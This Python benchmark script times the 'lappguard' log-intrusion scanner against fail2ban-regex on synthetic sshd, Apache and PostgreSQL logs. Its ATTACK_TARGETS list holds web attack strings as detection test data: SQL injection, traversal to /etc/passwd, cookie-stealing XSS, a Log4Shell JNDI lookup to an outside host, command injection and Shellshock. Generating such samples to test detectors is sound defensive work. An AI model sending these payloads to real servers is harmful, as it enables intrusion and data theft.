"""Detection throughput: ``lappguard scan`` against ``fail2ban-regex`` on the same input.

    .venv/bin/python bench/detect.py [--lines 1000000] [--fail2ban-lines 0] [--runs 3]

Generates two 1M-line sshd auth.logs, a quiet one (about 10% attack lines from a few
thousand addresses, the rest benign sshd/cron/systemd/sudo lines) and an attack-heavy one
(about 65% failures from ~3000 addresses, a quarter IPv6), and a 1M-line Apache access log
(real request shapes from ../shared/data/apache_access, a few percent attacks), then times
for each auth.log:

* the real ``lappguard scan --format json auth.log`` command (the headline: start-up,
  rule loading, detection, jail replay and the report, as a sysadmin runs it), ``--runs``
  times before and ``--runs`` times after fail2ban-regex, median; its Python bytecode is
  compiled by an untimed first run, as installing the package does;
* ``agent.scan.scan`` in-process with the shipped rules and jails (what ``--format json``
  computes), likewise;
* ``fail2ban-regex auth.log /etc/fail2ban/filter.d/sshd.conf`` once, on the whole file
  (``--fail2ban-lines N``: on its first N lines only, said so in the output);

and reports lines per second (the ratio is on lines/s), CPU seconds (lappguard scans a big
file with one worker process per core; fail2ban-regex uses one), and the lines each tool
matched. fail2ban's matches are checked to be covered: on the first 100k lines, every
address fail2ban-regex counts, lappguard counts at least as often. Last, the jail path
alone: the CPU microseconds ``Jails.count`` takes per event of the scan (``--only sshd``
measures just the two auth.logs).

Also: a 20 MB sshd log whose address-less lines name their process's address megabytes
before, scanned by one worker and by one per core (``--only far-context``): the same
events either way.

Also: ``lappguard scan`` of a 1M-line PostgreSQL 15 log (``log_connections = on``, ~15%
password guessing) written three ways: Debian's ``log_line_prefix``, one with ``%h``, and
``jsonlog`` (``--only postgresql`` measures just these).

Also: Python ``re`` against google-re2 (``pip install google-re2``) on the shipped
patterns, the measurement behind keeping ``re``.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import resource
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from agent.bans.jails import Jails, load_jails  # noqa: E402
from agent.detect.detector import Detector  # noqa: E402
from agent.detect.events import normalise_ip  # noqa: E402
from agent.detect.rules import load_rules  # noqa: E402
from agent.scan import ScanOptions, iter_blocks, scan  # noqa: E402

SHARED = ROOT.parent / "shared" / "data"
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
USERS = ("admin", "test", "oracle", "ubuntu", "user", "postgres", "git", "ftpuser", "guest", "pi")

# --------------------------------------------------------------------------- generators


def _stamp(seconds: int) -> str:
    """A syslog stamp in October, one line every few hundred milliseconds."""
    day, rest = divmod(seconds, 86400)
    return f"Oct {1 + day % 28:>2} {rest // 3600:02d}:{rest % 3600 // 60:02d}:{rest % 60:02d}"


def _address(rng: random.Random) -> str:
    return ".".join(str(rng.randrange(1, 224 if i == 0 else 255)) for i in range(4))


def generate_auth_log(path: Path, count: int, seed: int = 1) -> None:
    """A busy server's auth.log: sessions, cron and sudo, plus brute force from ~3000 hosts
    (about 10% of the lines: the quiet profile)."""
    _write_auth_log(path, count, random.Random(seed), attack_share=0.07, ipv6_share=0.0)


def generate_attack_heavy_log(path: Path, count: int, seed: int = 6) -> None:
    """An auth.log under attack: ~85% of the lines come from password guessers, ~65% are
    failures counted by the jails; ~3000 hosts, a quarter of them IPv6 (the attack-heavy
    profile, where the jails see most lines)."""
    _write_auth_log(path, count, random.Random(seed), attack_share=0.8, ipv6_share=0.25)


def _write_auth_log(
    path: Path, count: int, rng: random.Random, attack_share: float, ipv6_share: float
) -> None:
    """Attack connections (``attack_share`` of the connections) as real OpenSSH 9 writes
    them, a whole connection at a time, among sessions, cron and sudo."""
    # (no draw for the family when there is no IPv6: the quiet log stays as it always was)
    attackers = [
        _address6(rng) if ipv6_share and rng.random() < ipv6_share else _address(rng)
        for _ in range(3000)
    ]
    admins = [f"198.51.100.{i}" for i in range(2, 40)]
    written = pid = 0
    with path.open("w") as out:
        while written < count:
            pid += 1
            now = _stamp(written // 3)
            head = f"{now} web1 "
            if rng.random() < attack_share:
                lines = _attack_connection(rng, pid, rng.choice(attackers))
            else:
                lines = _benign_connection(rng, pid, rng.choice(admins))
            for line in lines[: count - written]:
                out.write(head + line + "\n")
            written += len(lines)


def _address6(rng: random.Random) -> str:
    net, subnet, host = rng.randrange(1 << 16), rng.randrange(1 << 16), rng.randrange(1, 1 << 16)
    return f"2001:db8:{net:x}:{subnet:x}::{host:x}"


def _attack_connection(rng: random.Random, pid: int, ip: str) -> list[str]:
    """One password-guessing connection: 3 to 6 lines."""
    port = rng.randrange(1024, 65535)
    if rng.random() < 0.6:
        user = rng.choice(USERS)
        return [
            f"sshd[{pid}]: Invalid user {user} from {ip} port {port}",
            f"sshd[{pid}]: pam_unix(sshd:auth): check pass; user unknown",
            f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}",  # noqa: E501
            f"sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2",
            f"sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]",
            f"sshd[{pid}]: Disconnected from invalid user {user} {ip} port {port} [preauth]",
        ]
    return [
        f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root",  # noqa: E501
        f"sshd[{pid}]: Failed password for root from {ip} port {port} ssh2",
        f"sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]",
    ]


def _benign_connection(rng: random.Random, pid: int, ip: str) -> list[str]:
    """A session opened or closed, a cron job or a sudo command: 2 to 4 lines."""
    port = rng.randrange(1024, 65535)
    return rng.choice(
        [
            [
                f"sshd[{pid}]: Accepted publickey for deploy from {ip} port {port} ssh2: ED25519 SHA256:n8zmOzQ1/0cE5LzpHXR3c2FK4mBGh0pIt7oHqGxVpJc",  # noqa: E501
                f"sshd[{pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",  # noqa: E501
                f"systemd-logind[512]: New session {pid} of user deploy.",
            ],
            [
                f"sshd[{pid}]: Received disconnect from {ip} port {port}:11: disconnected by user",
                f"sshd[{pid}]: Disconnected from user deploy {ip} port {port}",
                f"sshd[{pid}]: pam_unix(sshd:session): session closed for user deploy",
                f"systemd-logind[512]: Session {pid} logged out. Waiting for processes to exit.",
            ],
            [
                f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",  # noqa: E501
                f"CRON[{pid}]: pam_unix(cron:session): session closed for user root",
            ],
            [
                f"sudo[{pid}]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload apache2",  # noqa: E501
                f"sudo[{pid}]: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)",  # noqa: E501
                f"systemd[1]: Started session-{pid}.scope - Session {pid} of User x.",
            ],
        ]
    )


def generate_far_context_log(path: Path, megabytes: int = 20, seed: int = 4) -> int:
    """A busy sshd log (LogLevel VERBOSE, 60 lines a second, under an hour) with the mix of
    :func:`generate_auth_log`, in which slow attackers connect and are disconnected for
    too many authentication failures megabytes of log later: the address of that line is
    only in the ``Connection from`` line of the same process. Returns how many there are."""
    rng = random.Random(seed)
    target = megabytes * 1_000_000
    slow: list[tuple[int, str]] = []  # (byte offset to disconnect at, pid)
    written = lines = attackers = 0
    pid = 100_000
    with path.open("w") as out:
        while written < target or slow:
            hour, second = divmod(lines // 60, 3600)
            head = f"Oct  7 {hour + 10:02d}:{second // 60:02d}:{second % 60:02d} web1 "
            pid += 1
            if slow and slow[0][0] <= written:
                _, quitter = slow.pop(0)
                texts = [f"sshd[{quitter}]: Disconnecting: Too many authentication failures"]
            elif written < target and rng.random() < 0.0005:
                attackers += 1
                texts = [
                    f"sshd[{pid}]: Connection from {_address(rng)} port 4242 on 10.0.0.1 port 22"
                ]
                slow.append((written + rng.randrange(1_500_000, 6_000_000), str(pid)))
                slow.sort()
            elif rng.random() < 0.07:
                ip, user = _address(rng), rng.choice(USERS)
                texts = [
                    f"sshd[{pid}]: Invalid user {user} from {ip} port 4022",
                    f"sshd[{pid}]: pam_unix(sshd:auth): check pass; user unknown",
                    f"sshd[{pid}]: Failed password for invalid user {user} from {ip} port 22 ssh2",
                ]
            else:
                texts = [
                    f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",  # noqa: E501
                    f"CRON[{pid}]: pam_unix(cron:session): session closed for user root",
                    f"systemd-logind[512]: Session {pid} logged out. Waiting for processes.",
                ][: rng.randrange(1, 4)]
            for text in texts:
                line = head + text + "\n"
                out.write(line)
                written += len(line)
                lines += 1
    return attackers


ATTACK_TARGETS = (
    "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
    "/index.php?page=../../../../etc/passwd",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/cgi-bin/status",
    "/.env",
    "/wp-config.php.bak",
    "/phpmyadmin/index.php",
    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
    "/?x=${jndi:ldap://203.0.113.250/a}",
    "/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd",
)
ATTACK_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:001)",
    "() { :; }; /bin/bash -c 'id'",
)


def generate_access_log(path: Path, count: int, seed: int = 2) -> None:
    """Real request shapes (the elastic examples log), re-addressed; ~3% attack requests."""
    rng = random.Random(seed)
    source = SHARED / "apache_access" / "elastic_examples_apache_logs.log"
    shapes = source.read_text().splitlines() if source.exists() else [_SYNTHETIC]
    # (client, request...) of real lines: clients repeat as on a real site
    shapes = [(line.split(" ", 1)[0], line.split("] ", 1)[1]) for line in shapes]
    scanners = [_address(rng) for _ in range(400)]
    with path.open("w") as out:
        for number in range(count):
            second = number // 12
            day, hour = 1 + second // 86400 % 28, second // 3600 % 24
            stamp = (
                f"[{day:02d}/Oct/2025:{hour:02d}:{second // 60 % 60:02d}:{second % 60:02d} +0000]"
            )
            if rng.random() < 0.03:
                target, agent = rng.choice(ATTACK_TARGETS), rng.choice(ATTACK_AGENTS)
                status = rng.choice((200, 404, 403))
                request = f'"GET {target} HTTP/1.1" {status} 512 "-" "{agent}"'
                out.write(f"{rng.choice(scanners)} - - {stamp} {request}\n")
            else:
                client, request = rng.choice(shapes)
                out.write(f"{client} - - {stamp} {request}\n")


PG_USERS = ("postgres", "admin", "root", "test", "app", "odoo", "user", "pgsql", "guest")
#: The PostgreSQL logs measured: Debian's log_line_prefix, one with %h, and jsonlog.
PG_FORMATS = {"debian": "%m [%p] %q%u@%d ", "host": "%m [%p] %h %q%u@%d ", "jsonlog": "jsonlog"}
PG_HBA_MATCHED = 'Connection matched pg_hba.conf line 7: "host all all 0.0.0.0/0 scram-sha-256"'
PG_AUTHORIZED = "connection authorized: user=app database=shop application_name=web"
PG_DUPLICATE = 'duplicate key value violates unique constraint "orders_pkey"'
PG_AUTHENTICATED = (
    'connection authenticated: identity="app" method=scram-sha-256 '
    "(/etc/postgresql/15/main/pg_hba.conf:7)"
)


def generate_postgres_log(path: Path, count: int, log_format: str, seed: int = 3) -> None:
    """A busy PostgreSQL 15 server log with ``log_connections = on``, written with a
    ``log_line_prefix`` or as ``jsonlog``: application connections, statement errors,
    checkpoints, and password guessing from 60 hosts (~15% of the lines)."""
    rng = random.Random(seed)
    attackers = [_address(rng) for _ in range(60)]
    apps = [f"10.0.0.{i}" for i in range(2, 30)]
    written, pid = 0, 1000
    write = _pg_writer(log_format)
    with path.open("w") as out:
        while written < count:
            pid += 1
            second = written // 40
            stamp = (
                f"2025-10-{1 + second // 86400 % 28:02d} {second // 3600 % 24:02d}:"
                f"{second // 60 % 60:02d}:{second % 60:02d}.{rng.randrange(1000):03d} UTC"
            )
            attack = rng.random() < 0.05
            ip = rng.choice(attackers if attack else apps)
            port = rng.randrange(1024, 65535)
            nobody, app = ("[unknown]", "[unknown]"), ("app", "shop")
            records = [(nobody, "LOG", f"connection received: host={ip} port={port}")]
            if attack:
                guess = (rng.choice(PG_USERS), "postgres")
                failed = f'password authentication failed for user "{guess[0]}"'
                records += [(guess, "FATAL", failed), (guess, "DETAIL", PG_HBA_MATCHED)]
            else:
                records += [(app, "LOG", PG_AUTHENTICATED), (app, "LOG", PG_AUTHORIZED)]
                if rng.random() < 0.3:
                    key = f"Key (id)=({rng.randrange(10**6)}) already exists."
                    records += [(app, "ERROR", PG_DUPLICATE), (app, "DETAIL", key)]
                    records.append((app, "STATEMENT", "INSERT INTO orders VALUES ($1, $2)"))
                if rng.random() < 0.05:
                    records.append((None, "LOG", "checkpoint starting: time"))
            for names, severity, message in records[: count - written]:
                client = (ip, *names) if names else None
                out.write(write(stamp, 40 if names is None else pid, client, severity, message))
            written += len(records)


def _pg_writer(log_format: str):
    """How one record is written: (stamp, pid, (host, user, db) or None, severity, message)."""
    if log_format == "jsonlog":

        def jsonlog(stamp, pid, client, severity, message):
            record = {"timestamp": stamp}
            if client and client[1] != "[unknown]":  # known once the startup packet is read
                record.update(user=client[1], dbname=client[2])
            record["pid"] = pid
            if client:
                record.update(remote_host=client[0], remote_port=40000)
            record.update(
                session_id=f"{pid:x}.1", line_num=1, error_severity=severity, message=message,
                backend_type="client backend" if client else "checkpointer", query_id=0,
            )  # fmt: skip
            return json.dumps(record, separators=(",", ":")) + "\n"

        return jsonlog
    with_host = "%h" in log_format

    def stderr(stamp, pid, client, severity, message):
        if client is None:  # no client: %h prints nothing, %q stops the prefix
            return f"{stamp} [{pid}] {' ' if with_host else ''}{severity}:  {message}\n"
        host = f"{client[0]} " if with_host else ""
        return f"{stamp} [{pid}] {host}{client[1]}@{client[2]} {severity}:  {message}\n"

    return stderr


_SYNTHETIC = (
    '192.0.2.1 - - [17/May/2015:10:05:03 +0000] "GET /index.html HTTP/1.1" 200 5120 '
    '"http://example.org/" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/121.0"'
)


# --------------------------------------------------------------------------- measurements


def time_scan(path: Path, kind: str, runs: int = 1, **settings) -> tuple[float, dict]:
    """Median seconds of ``runs`` in-process scans, and what the last one found."""
    rules = load_rules()
    jails = load_jails(rule_ids=[r.id for r in rules])
    options = ScanOptions(rules=rules, jails=jails, kind=kind, **settings)
    timings = []
    for _ in range(runs):
        started = time.perf_counter()
        result = scan([str(path)], options)
        timings.append(time.perf_counter() - started)
    c = result.counters
    return statistics.median(timings), {
        "lines": c.lines,
        "matched": c.matched,
        "events": c.events,
        "bans": len(result.bans),
        "addresses": len(result.by_ip),
        "skipped": c.skipped,
    }


class Run:
    """A timed command: wall seconds, CPU seconds of it and its children, its output."""

    def __init__(self, argv: list[str], env: dict[str, str] | None = None):
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        started = time.perf_counter()
        done = subprocess.run(argv, capture_output=True, text=True, check=True, env=env)
        self.seconds = time.perf_counter() - started
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
        self.stdout = done.stdout


def cli_command(work: Path) -> tuple[list[str], dict[str, str]]:
    """The installed ``lappguard`` command, with its bytecode compiled by one untimed run
    (as installing the package does; this environment may forbid writing it next to the
    sources, so it goes to a cache of the bench's own)."""
    command = shutil.which("lappguard", path=str(ROOT / ".venv" / "bin")) or "lappguard"
    env = dict(os.environ, PYTHONPYCACHEPREFIX=str(work / "pycache"))
    env.pop("PYTHONDONTWRITEBYTECODE", None)
    warm = work / "warm.log"
    warm.write_text("Oct  1 00:00:00 web1 sshd[1]: Invalid user a from 192.0.2.1 port 1\n")
    Run([command, "scan", "--format", "json", str(warm)], env)
    return [command, "scan", "--format", "json"], env


def time_cli(path: Path, runs: int, command: list[str], env: dict[str, str]) -> list[Run]:
    """``lappguard scan --format json`` as a sysadmin runs it, ``runs`` times."""
    return [Run([*command, str(path)], env) for _ in range(runs)]


def time_fail2ban(path: Path) -> tuple[Run, int, int] | None:
    tool = shutil.which("fail2ban-regex")
    if tool is None:
        return None
    run = Run([tool, str(path), "/etc/fail2ban/filter.d/sshd.conf"])
    found = re.search(r"Lines: (\d+) lines, (\d+) ignored, (\d+) matched", run.stdout)
    assert found, run.stdout[-2000:]
    return run, int(found.group(1)), int(found.group(3))


def fail2ban_addresses(path: Path) -> Counter[str]:
    """How many failures fail2ban-regex counts per address in a file."""
    tool = shutil.which("fail2ban-regex")
    assert tool is not None
    done = subprocess.run(
        [tool, "-o", "ip", str(path), "/etc/fail2ban/filter.d/sshd.conf"],
        capture_output=True,
        text=True,
        check=True,
    )
    return Counter(line.strip() for line in done.stdout.splitlines() if line.strip())


def lappguard_matched(path: Path) -> tuple[int, Counter[str]]:
    """Lines matched and events per address of lappguard's detection on a file."""
    rules = load_rules()
    jails = load_jails(rule_ids=[r.id for r in rules])
    result = scan([str(path)], ScanOptions(rules=rules, jails=jails, kind="sshd"))
    return result.counters.matched, result.by_ip


def compare_regex_engines(repeat: int = 20000) -> dict[str, float] | None:
    """Microseconds per match of the shipped sshd patterns on attack messages, and how many
    shipped patterns (all kinds) RE2 cannot compile (lookaheads, backreferences)."""
    try:
        import re2  # type: ignore[import-not-found]
    except ImportError:
        return None
    messages = [
        "Failed password for invalid user admin from 203.0.113.5 port 4242 ssh2",
        "Invalid user oracle from 203.0.113.6 port 51000",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
        "rhost=203.0.113.7  user=root",
    ]
    rules = load_rules()
    unsupported = 0
    for pattern in [p for rule in rules for p in rule.patterns]:
        try:
            re2.compile(pattern)
        except re2.error:
            unsupported += 1
    patterns = []
    for pattern in [p for rule in rules if rule.kind == "sshd" for p in rule.patterns]:
        try:
            re2.compile(pattern)
        except re2.error:
            continue
        patterns.append(pattern)
    timings: dict[str, float] = {"unsupported_by_re2": unsupported, "compared": len(patterns)}
    for name, engine in (("re", re), ("re2", re2)):
        compiled = [engine.compile(p) for p in patterns]
        started = time.perf_counter()
        rounds = repeat // len(messages)
        for _ in range(rounds):
            for message in messages:
                for regex in compiled:
                    match = regex.match(message)
                    if match:
                        match.group("ip")
        timings[name] = (
            (time.perf_counter() - started) / (rounds * len(messages) * len(compiled)) * 1e6
        )
    return timings


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument(
        "--fail2ban-lines",
        type=int,
        default=0,
        help="run fail2ban-regex on the first N lines only (default 0: the whole file)",
    )
    parser.add_argument("--runs", type=int, default=3, help="timed runs of lappguard (median)")
    parser.add_argument("--keep", metavar="DIR", help="write the generated logs here")
    parser.add_argument(
        "--only", choices=("sshd", "postgresql", "far-context"), help="measure only these logs"
    )
    args = parser.parse_args(argv)
    work = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="lappguard-bench-"))
    work.mkdir(parents=True, exist_ok=True)
    try:
        if args.only in (None, "sshd"):
            bench_sshd_profiles(work, args)
        if args.only is None:
            bench_apache(work, args)
        if args.only in (None, "postgresql"):
            bench_postgres(work, args.lines, args.runs)
        if args.only in (None, "far-context"):
            bench_far_context(work, args.runs)
    finally:
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)
    return 0


def bench_postgres(work: Path, lines: int, runs: int) -> None:
    """lappguard scan of the same PostgreSQL traffic logged three ways."""
    for name, log_format in PG_FORMATS.items():
        path = work / f"postgresql-{name}.log"
        if not path.exists():
            generate_postgres_log(path, lines, log_format)
        size = path.stat().st_size / 1e6
        print(f"\nPostgreSQL log, {name} ({log_format}), {lines:,} lines ({size:.0f} MB)")
        prefix = {} if log_format == "jsonlog" else {"postgres_prefix": log_format}
        seconds, counts = time_scan(path, "postgresql", max(1, runs), **prefix)
        _rate(f"lappguard in-process scan (median of {max(1, runs)})", seconds, lines, counts)


def bench_far_context(work: Path, runs: int) -> None:
    """A 20 MB log whose address-less lines name their process's address megabytes
    before: one worker against one per core, which must find the same events."""
    import agent.scan_ranges as scan_ranges

    path = work / "auth-far-context.log"
    attackers = generate_far_context_log(path)
    size = path.stat().st_size / 1e6
    print(f"\nsshd log, addresses megabytes before their lines ({size:.0f} MB, {attackers} slow)")
    parallel = time_scan(path, "sshd", max(1, runs))
    workers, scan_ranges.MAX_WORKERS = scan_ranges.MAX_WORKERS, 1
    try:
        serial = time_scan(path, "sshd", max(1, runs))
    finally:
        scan_ranges.MAX_WORKERS = workers
    for label, (seconds, counts) in (("one worker", serial), ("one per core", parallel)):
        _rate(f"lappguard in-process scan, {label}", seconds, counts["lines"], counts)
    print(f"  parallel speed-up: {serial[0] / parallel[0]:.2f}x")


def bench_sshd_profiles(work: Path, args: argparse.Namespace) -> None:
    """Both sshd profiles against fail2ban-regex, each on its own file."""
    for label, generate in (
        ("quiet", generate_auth_log),
        ("attack-heavy", generate_attack_heavy_log),
    ):
        auth = work / f"auth-{label}.log"
        generate(auth, args.lines)
        size = auth.stat().st_size / 1e6
        print(f"sshd auth.log, {label} profile, {args.lines:,} lines ({size:.0f} MB)")
        bench_sshd(auth, work, args.fail2ban_lines, args.runs)
        events, micros = jail_cost(auth)
        print(f"  jail path: {events:,} events, {micros:.2f} us per event"
              " (Jails.count over the scan's records, 1 core, best of 3)")  # fmt: skip
        detector, floor = detection_cost(auth)
        print(f"  detection: {detector:.2f} us per event line (Detector.hits_block, 1 core);"
              f" floor {floor:.2f} us: finding the candidate lines, then per line only"
              " decode, its one regex, the groups and the address")  # fmt: skip
        literals, regex = c_engine_floor(auth)
        print(f"  C engines alone, CPU s per 1M lines (1 core): the literal automaton over"
              f" every line {literals * 1e6 / args.lines:.2f}, re over the candidate lines"
              f" {regex * 1e6 / args.lines:.2f} (no Python work per line or event)\n")  # fmt: skip


def jail_cost(path: Path, passes: int = 3) -> tuple[int, float]:
    """Events of an sshd log and the CPU microseconds the jails take per event: the
    scan's replay (its records, in order, through ``Jails.count``) alone."""
    rules = load_rules()
    config = load_jails(rule_ids=[r.id for r in rules])
    detector = Detector([rule for rule in rules if rule.kind == "sshd"])
    records = []
    with path.open("rb") as handle:
        for block in iter_blocks(handle):
            hits, _ = detector.hits_block(block, "sshd", str(path), 1, numbered=False)
            records += [hit[:4] for hit in hits]
    best = float("inf")
    for _ in range(passes):
        jails = Jails(config.jails, clock=time.time, allowlist=config.allowlist,
                      evidence=config.evidence)  # fmt: skip
        count = jails.count
        started = time.process_time()
        for when, rule, ip, confidence in records:
            count(rule, ip, when, when, confidence)
        best = min(best, time.process_time() - started)
    return len(records), best / max(1, len(records)) * 1e6


def detection_cost(path: Path, passes: int = 3) -> tuple[float, float]:
    """CPU microseconds per event line (1 core, best of ``passes``) of the detector, and of
    the floor under it: the least any per-line Python detection built on ``re`` does for a
    line that is an event (find it among the block's lines, decode it, run its one regex,
    read the groups, normalise the address). What the detector spends above the floor is
    its bookkeeping (process memory, counters, the one-reading check, own probes)."""
    rules = [rule for rule in load_rules() if rule.kind == "sshd"]
    with path.open("rb") as handle:
        blocks = list(iter_blocks(handle))
    best = floor = float("inf")
    events = 0
    for _ in range(passes):
        detector = Detector(rules)
        started = time.process_time()
        events = sum(len(detector.hits_block(b, "sshd", "-", 1, False)[0]) for b in blocks)
        best = min(best, time.process_time() - started)
        matcher = detector._patterns["sshd"]  # built by the pass above: every regex compiled
        started = time.process_time()
        for block in blocks:
            for start, end, mask in matcher.candidate_lines(block):
                fast = matcher.fast_by_mask[mask]
                found = fast[0].match(block[start:end].decode()) if fast else None
                if found is not None:
                    matcher.stamp_time(found.group(1))
                    _, alternative = fast[1][found.lastindex]
                    if alternative.ip is not None:
                        normalise_ip(found.group(alternative.ip))
        floor = min(floor, time.process_time() - started)
    return best / max(1, events) * 1e6, floor / max(1, events) * 1e6


def c_engine_floor(path: Path, passes: int = 2) -> tuple[float, float]:
    """CPU seconds (1 core, best of ``passes``) that the two C engines under detection take
    by themselves: the literal automaton over every block, and ``re`` running the shipped
    sshd rules (the header and every pattern, as one regex) over the candidate lines only,
    gathered beforehand into whole blocks and matched there with ``finditer``. With no
    Python work per line or per event at all, this bounds from below what any detector
    built on these rules and ``re`` spends, however it is organised."""
    rules = [rule for rule in load_rules() if rule.kind == "sshd"]
    with path.open("rb") as handle:
        blocks = list(iter_blocks(handle))
    detector = Detector(rules)
    matcher = detector._patterns["sshd"]
    combined = matcher.fast_for((1 << len(matcher.rules)) - 1)
    assert combined is not None, "the shipped sshd rules no longer embed in one regex"
    regex = re.compile("^" + combined[0].pattern, re.MULTILINE)
    automaton = matcher.literals._automaton
    candidates = [
        "\n".join(block[start:end].decode() for start, end, _ in matcher.candidate_lines(block))
        for block in blocks
    ]
    literals = search = float("inf")
    for _ in range(passes):
        started = time.process_time()
        for block in blocks:
            automaton.find_matches_as_indexes(block)
        literals = min(literals, time.process_time() - started)
        started = time.process_time()
        for text in candidates:
            for _found in regex.finditer(text):
                pass
        search = min(search, time.process_time() - started)
    return literals, search


def bench_apache(work: Path, args: argparse.Namespace) -> None:
    """The Apache access log, and re against re2."""
    access = work / "access.log"
    generate_access_log(access, args.lines)

    print(f"\nApache access log, {args.lines:,} lines ({access.stat().st_size / 1e6:.0f} MB)")
    seconds, counts = time_scan(access, "apache_access")
    _rate("lappguard scan (in-process)", seconds, counts["lines"], counts)

    engines = compare_regex_engines()
    if engines is None:
        print("\nre vs re2: google-re2 not installed (pip install google-re2 to compare)")
    else:
        print(f"\nper match, {engines['compared']} shipped sshd patterns:", end="")
        print(f" re {engines['re']:.2f} us, re2 {engines['re2']:.2f} us;", end="")
        print(f" patterns RE2 cannot compile: {engines['unsupported_by_re2']}")


def bench_sshd(auth: Path, work: Path, fail2ban_lines: int, runs: int) -> None:
    """lappguard runs before and after fail2ban-regex's (this machine's speed drifts over
    minutes; medians over both sides are fairer to both tools)."""
    runs = max(1, runs)
    command, env = cli_command(work)
    timed = time_cli(auth, runs, command, env)
    in_process = [time_scan(auth, "sshd")[0] for _ in range(runs)]
    subject = auth
    if fail2ban_lines:
        subject = work / "auth-slice.log"
        _head(auth, subject, fail2ban_lines)
    f2b = time_fail2ban(subject)
    timed += time_cli(auth, runs, command, env)
    seconds, counts = time_scan(auth, "sshd")
    in_process += [seconds] + [time_scan(auth, "sshd")[0] for _ in range(runs - 1)]
    report = json.loads(timed[-1].stdout)
    cli = statistics.median(run.seconds for run in timed)
    cli_cpu = statistics.median(run.cpu for run in timed)
    each = ", ".join(f"{run.seconds:.2f}" for run in timed)
    ours = _rate(
        f"lappguard scan --format json (median of {len(timed)})",
        cli,
        report["lines"],
        {"cpu_s": round(cli_cpu, 2), "runs_s": each, "matched": report["matched"]},
    )
    fast = _rate(
        f"lappguard in-process scan (median of {len(in_process)})",
        statistics.median(in_process),
        counts["lines"],
        counts,
    )
    if f2b is None:
        print("  fail2ban-regex: not installed (apt-get install fail2ban)")
        return
    run, f2b_lines, f2b_matched = f2b
    which = "the same file" if not fail2ban_lines else f"its first {f2b_lines:,} lines only"
    theirs = _rate(
        f"fail2ban-regex sshd, {which}",
        run.seconds,
        f2b_lines,
        {"cpu_s": round(run.cpu, 2), "matched": f2b_matched},
    )
    print(f"  ratio, lines/s, command vs fail2ban-regex:    {ours / theirs:6.1f}x")
    print(f"  ratio, lines/s, in-process vs fail2ban-regex: {fast / theirs:6.1f}x")
    per_cpu = (report["lines"] / cli_cpu) / (f2b_lines / run.cpu)
    print(f"  ratio, lines per CPU second, command vs fail2ban-regex: {per_cpu:.1f}x")
    mine = report["matched"] if not fail2ban_lines else lappguard_matched(subject)[0]
    print(f"  matched lines: fail2ban-regex {f2b_matched:,}, lappguard {mine:,}")
    slice_path = work / "auth-100k.log"
    _head(auth, slice_path, 100_000)
    theirs_by_ip = fail2ban_addresses(slice_path)
    _, ours_by_ip = lappguard_matched(slice_path)
    short = {ip for ip, count in theirs_by_ip.items() if ours_by_ip[ip] < count}
    print(
        f"  first 100k lines: fail2ban-regex counts {sum(theirs_by_ip.values()):,} failures of "
        f"{len(theirs_by_ip):,} addresses; lappguard counts fewer for {len(short)} of them"
    )


def _rate(label: str, seconds: float, lines: int, details: dict) -> float:
    rate = lines / seconds
    print(f"  {label:<48} {seconds:7.2f} s {rate:>12,.0f} lines/s  {details}")
    return rate


def _head(source: Path, target: Path, count: int) -> None:
    with source.open("rb") as src, target.open("wb") as out:
        for _ in range(count):
            line = src.readline()
            if not line:
                break
            out.write(line)


if __name__ == "__main__":
    sys.exit(main())
